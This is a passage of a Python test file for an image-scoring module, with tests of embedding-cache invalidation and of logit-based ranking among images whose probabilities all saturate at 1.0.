  cache = predict.EmbeddingCache(str(tmp_path), scorer, log=lambda _: None)
  os.makedirs(cache.directory)
  meta = {
    "key": "k" * 64,
    "paths": [str(image)],
    "sizes": [stat.st_size],
    "mtimes": [stat.st_mtime_ns],
  }
  with open(cache.path, "wb") as f:
    np.savez(f, meta=np.frombuffer(json.dumps(meta).encode(), np.uint8), embeddings=rows)
  lines = []
  cache = predict.EmbeddingCache(str(tmp_path), scorer, log=lines.append)
  assert cache.get(str(image), stat) is None
  assert lines and "ignoring the embedding cache" in lines[0]


def test_confident_images_of_a_new_folder_rank_by_logit(tmp_path):
  """Logits above ~17 all have float32 probability 1.0: a folder's rows must still be ranked
  by the model's logits (they were in path order among the 1.0s)."""
  from PIL import Image

  images = tmp_path / "images"
  images.mkdir()
  brightness = [40, 200, 120, 250, 90, 160]  # the logit grows with brightness
  for k, value in enumerate(brightness):
    Image.fromarray(np.full((8, 8, 3), value, np.uint8)).save(images / f"img{k}.png")
  scorer = predict.Scorer(
    features=lambda batch: np.asarray(batch, np.float32).reshape(len(batch), -1)[:, :1],
    from_features=lambda features: 20.0 + features,  # every logit >= 60: probability 1.0
    to_model_input=lambda image: np.asarray(image.convert("RGB")),
    categories=["bright"],
    round_index=1,
    kind="test",
    head="linear",
  )
  scored = predict.score_folder(scorer, str(images), log=lambda _: None)
  assert np.all(scored.scores == 1.0)
  ranked = predict.select_rows(scored.rows(0), top_k=3, threshold=None)
  assert [name for _, name, _ in ranked] == ["img3.png", "img1.png", "img5.png"]
